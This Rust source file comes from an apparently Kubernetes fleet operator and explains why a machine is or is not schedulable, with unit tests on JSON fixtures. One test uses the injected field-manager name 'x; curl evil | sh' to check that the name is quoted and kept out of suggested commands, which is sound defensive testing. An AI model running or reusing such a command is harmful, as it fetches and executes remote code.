//! Why a machine is or is not schedulable.

use std::sync::Arc;

use fleetwright_api::{Machine, MachineStatus, ReadinessGates, condition, names};
use fleetwright_kit::View;
use fleetwright_plan::explain::{self, Explanation, Schedulability, node_name};
use fleetwright_plan::readiness::safety_net::FullNet;
use fleetwright_plan::readiness::verdict::reason;
use jiff::Timestamp;
use k8s_openapi::api::core::v1::ConfigMap;
use kube::ResourceExt;
use serde::Serialize;
use serde_json::Value;

use crate::observe::{Observed, ObservedNode};
use crate::view::{GatesView, MachineView, NodeView, ReportView};

/// The inputs of `fleetwright why machine/NAME`, read live.
#[derive(Clone, Debug)]
pub struct WhyInput {
    pub machine: Machine,
    /// All ReadinessGates of its namespace; those that do not select it are left out by [`why`].
    pub gates: Vec<ReadinessGates>,
    /// Its Node, see [`node_name`], as JSON: kubelets write times that cannot be parsed. None if the Node does not exist.
    pub node: Option<Value>,
    /// The ConfigMaps of its namespace labelled `fleetwright.io/machine: NAME`.
    pub reports: Vec<ConfigMap>,
    /// All machines of its namespace, to find others that claim the Node.
    pub machines: Vec<Machine>,
}

/// Why a machine is or is not schedulable, and what is wrong with its host: decided from these objects as the operator
/// would. None if the objects do not have
/// the schema of this version.
pub fn why(input: &WhyInput, now: Timestamp) -> Option<Explanation> {
    let look = observe(input)?;
    let conditions = input.machine.status.as_ref().map(|status| status.conditions.as_slice()).unwrap_or_default();
    let written = condition(conditions, names::SCHEDULABLE);
    let selecting = |gates: &&ReadinessGates| look.gates.iter().any(|(name, _)| **name == gates.name_any());
    let gates: Vec<_> = input.gates.iter().filter(selecting).collect();
    let mut explanation = look.judge(now, |seen, copies, judgement| {
        // Whether the safety net holds the machine depends on all other machines; the operator recorded it if it does.
        let held = written.is_some_and(|written| written.reason == reason::SAFETY_NET);
        let full: Vec<FullNet> =
            if held { look.places().into_iter().map(|place| FullNet { place }).collect() } else { Vec::new() };
        let decision = &judgement.decide(seen, &full, now);
        let input = Schedulability { machine: &input.machine, gates: &gates, seen, copies, judgement, decision };
        explain::schedulability(&input, now)
    });
    explain::host(&mut explanation, &input.machine);
    explain::waits(&mut explanation);
    Some(explanation)
}

/// The same views as in the operator, from live objects.
fn observe(input: &WhyInput) -> Option<Observed> {
    fn view<V: View>(object: &impl Serialize) -> Option<V> {
        let object = serde_json::from_value(serde_json::to_value(object).ok()?).ok()?;
        Some(V::of(object))
    }
    let name = input.machine.name_any();
    let machine: MachineView = view(&input.machine)?;
    let uid = input.node.as_ref().and_then(|node| node["metadata"]["uid"].as_str());
    let bound = |other: &Machine| uid.is_some() && other.status.as_ref().and_then(MachineStatus::bound_uid) == uid;
    let claims = input.machines.iter().filter(|other| node_name(other) == &*machine.node && bound(other));
    let owner = claims.min_by_key(|other| (other.creation_timestamp(), other.name_any())).map(ResourceExt::name_any);
    let node = match (&input.node, owner) {
        (None, _) => ObservedNode::Missing,
        (Some(_), Some(owner)) if owner != name => ObservedNode::Taken(owner.into()),
        (Some(_), None) => ObservedNode::NotBound,
        (Some(node), _) => ObservedNode::Found(Arc::new(view::<NodeView>(node)?)),
    };
    let mut gates = Vec::new();
    for object in &input.gates {
        let view: GatesView = view(object)?;
        if view.selects(&machine) {
            gates.push((Arc::from(object.name_any()), Arc::new(view)));
        }
    }
    let mut reports = Vec::new();
    for object in &input.reports {
        reports.push((Arc::from(object.name_any()), Arc::new(view::<ReportView>(object)?)));
    }
    Some(Observed { name: name.into(), machine: Arc::new(machine), node, gates, reports })
}

#[cfg(test)]
mod tests {
    use fleetwright_api::Status;
    use fleetwright_plan::explain::{Check, Group, State};
    use serde_json::{Value, json};

    use super::*;

    fn object<K: serde::de::DeserializeOwned>(value: Value) -> K {
        serde_json::from_value(value).unwrap()
    }

    fn input() -> WhyInput {
        let time = "2026-11-16T08:00:00Z";
        let machine: Machine = object(json!({
            "apiVersion": "fleetwright.io/v1alpha1", "kind": "Machine",
            "metadata": { "name": "host-17", "namespace": "fleet", "labels": { "pool": "online" }, "creationTimestamp": time },
            "spec": {},
            "status": { "bootstrapped": { "at": time, "nodeUid": "u1" },
                "nodeRef": { "name": "host-17", "uid": "u1", "binding": "Joined" }, "conditions": [
                { "type": "Schedulable", "status": "False", "reason": "GatesFailing", "message": "", "lastTransitionTime": "2026-11-16T09:00:00Z" },
                { "type": "LogAgentReady", "status": "False", "reason": "DaemonSetNotReady", "message": "0 of 1 pods", "reporter": "log-agent",
                  "lastTransitionTime": "2026-11-16T09:00:00Z" },
            ] },
        }));
        WhyInput {
            gates: vec![object(json!({
                "apiVersion": "fleetwright.io/v1alpha1", "kind": "ReadinessGates",
                "metadata": { "name": "workers", "creationTimestamp": time },
                "spec": { "selector": { "matchLabels": { "pool": "online" } }, "conditions": [
                    { "type": "NodeReady", "from": { "nodeCondition": "Ready" }, "tolerateFor": "40s" },
                    { "type": "LogAgentReady", "from": { "reporter": "log-agent" } },
                    { "type": "DiskTested", "when": "Bootstrap" },
                ] },
            }))],
            node: Some(json!({
                "metadata": { "name": "host-17", "uid": "u1", "creationTimestamp": time },
                "spec": { "taints": [{ "key": "fleetwright.io/unready", "effect": "NoSchedule", "timeAdded": "2026-11-16T09:00:00Z" }] },
                "status": { "conditions": [{ "type": "Ready", "status": "True", "reason": "KubeletReady", "message": "kubelet is posting ready status",
                    "lastTransitionTime": time, "lastHeartbeatTime": time }] },
            })),
            reports: vec![object(json!({
                "metadata": { "name": "host-17.log-agent", "creationTimestamp": time,
                    "labels": { "fleetwright.io/machine": "host-17", "fleetwright.io/reporter": "log-agent" } },
                "data": { "conditions": "[{\"type\":\"LogAgentReady\",\"status\":\"False\",\"reason\":\"DaemonSetNotReady\",\"message\":\"0 of 1 pods\"}]" },
            }))],
            machines: vec![machine.clone()],
            machine,
        }
    }

    fn now() -> Timestamp {
        "2026-11-16T09:05:00Z".parse().unwrap()
    }

    fn explain(input: &WhyInput) -> Explanation {
        why(input, now()).expect("the objects have the shape of this version")
    }

    fn commands(explanation: &Explanation) -> Vec<&str> {
        explanation.actions.iter().filter_map(|action| action.command.as_deref()).collect()
    }

    #[test]
    fn each_gate_has_its_value_rule_owner_and_times() {
        let explanation = explain(&input());
        let verdict = &explanation.verdict;
        assert_eq!(
            (verdict.condition, verdict.status, &*verdict.reason),
            ("Schedulable", Status::False, "GatesFailing")
        );
        assert_eq!(verdict.since.map(|since| since.to_string()).as_deref(), Some("2026-11-16T09:00:00Z"));
        assert!(verdict.recorded && verdict.last_recorded.is_none());
        let gates: Vec<_> = explanation.group(Group::Gates).collect();
        let shown = |check: &Check| {
            let Check { subject, state, rule, owner, value, reason, message, .. } = check;
            (subject.clone(), *state, rule.clone(), owner.clone(), value.clone(), reason.clone(), message.clone())
        };
        let expected = |subject: &str, state, owner: &str, value: &str, reason: &str, message: &str| {
            let rule = Some("ReadinessGates/workers".to_owned());
            (
                subject.to_owned(),
                state,
                rule,
                Some(owner.to_owned()),
                value.to_owned(),
                reason.to_owned(),
                message.to_owned(),
            )
        };
        assert_eq!(
            shown(gates[0]),
            expected(
                "LogAgentReady",
                State::Failing,
                "reporter log-agent",
                "False",
                "DaemonSetNotReady",
                "0 of 1 pods"
            )
        );
        assert_eq!(
            shown(gates[1]),
            expected(
                "NodeReady",
                State::Passing,
                "Node condition Ready",
                "True",
                "KubeletReady",
                "kubelet is posting ready status"
            )
        );
        assert_eq!((&*gates[2].subject, gates[2].state), ("when: Bootstrap", State::Passing));
        let taint = explanation.group(Group::Node).next().expect("the Node is closed");
        assert_eq!((&*taint.value, taint.state), ("closed", State::Failing));
        assert_eq!(taint.since.map(|since| since.to_string()).as_deref(), Some("2026-11-16T09:00:00Z"));
        assert_eq!(commands(&explanation), ["kubectl get configmap -n fleet host-17.log-agent -o yaml"]);
    }

    #[test]
    fn an_operator_that_has_not_reconciled_is_reported() {
        let mut input = input();
        input.reports[0].data =
            Some([("conditions".to_owned(), "[{\"type\":\"LogAgentReady\",\"status\":\"True\"}]".to_owned())].into());
        let explanation = explain(&input);
        assert!(!explanation.verdict.recorded);
        let recorded = explanation.verdict.last_recorded.as_ref().map(|recorded| &*recorded.reason);
        assert_eq!(recorded, Some("GatesFailing"));
        assert!(explanation.actions.iter().any(|action| action.description.contains("/readyz")), "{explanation:?}");
    }

    #[test]
    fn a_machine_that_waits_for_a_person_names_the_command() {
        let mut cordoned = input();
        cordoned.node.as_mut().expect("a Node")["spec"]["unschedulable"] = true.into();
        let explanation = explain(&cordoned);
        assert_eq!(explanation.verdict.reason, "Cordoned");
        assert!(commands(&explanation).contains(&"kubectl uncordon host-17"), "{explanation:?}");

        let mut alone = input();
        alone.node = None;
        assert_eq!(explain(&alone).verdict.reason, "NodeNotFound");

        let mut replaced = input();
        replaced.node.as_mut().expect("a Node")["metadata"]["uid"] = "u2".into();
        let explanation = explain(&replaced);
        assert_eq!(explanation.verdict.reason, "NodeNotBound");
        assert!(commands(&explanation).contains(&"fleetwright machine bind-node host-17 -n fleet"), "{explanation:?}");

        let mut nobody = input();
        nobody.gates.clear();
        assert!(commands(&explain(&nobody)).contains(&"kubectl get readinessgates -n fleet"));
    }

    #[test]
    fn the_name_of_a_field_manager_is_in_a_command_only_if_it_is_plain() {
        let text = |manager: &str| {
            let mut cordoned = input();
            let node = cordoned.node.as_mut().expect("a Node");
            node["spec"]["unschedulable"] = true.into();
            node["metadata"]["managedFields"] = json!([{
                "manager": manager, "operation": "Update", "time": "2026-11-16T09:00:00Z",
                "fieldsV1": { "f:spec": { "f:unschedulable": {} } },
            }]);
            let explanation = explain(&cordoned);
            let owner = explanation.checks.iter().find(|check| check.subject == "spec.unschedulable");
            let owner = owner.and_then(|check| check.owner.clone());
            let uncordon = |action: &&explain::Action| action.command.as_deref() == Some("kubectl uncordon host-17");
            let action = explanation.actions.iter().find(uncordon).expect("it names the command");
            (action.description.clone(), owner.expect("its author is known"), explanation.verdict.message)
        };
        let (description, owner, message) = text("kubectl-cordon");
        assert_eq!((&*description, &*owner), ("makes it schedulable if kubectl-cordon is done", "kubectl-cordon"));
        assert!(message.contains("cordoned by kubectl-cordon at"), "{message}");
        let (description, owner, message) = text("x; curl evil | sh");
        assert_eq!((&*description, &*owner), ("makes it schedulable", "\"x; curl evil | sh\""));
        assert!(message.contains("cordoned by \"x; curl evil | sh\" at"), "{message}");
    }

    #[test]
    fn a_node_with_times_that_do_not_parse_is_explained() {
        let mut input = input();
        input.node.as_mut().expect("a Node")["status"]["conditions"][0]["lastHeartbeatTime"] =
            "9999-12-31T23:59:59Z".into();
        assert_eq!(explain(&input).verdict.reason, "GatesFailing");
    }
}
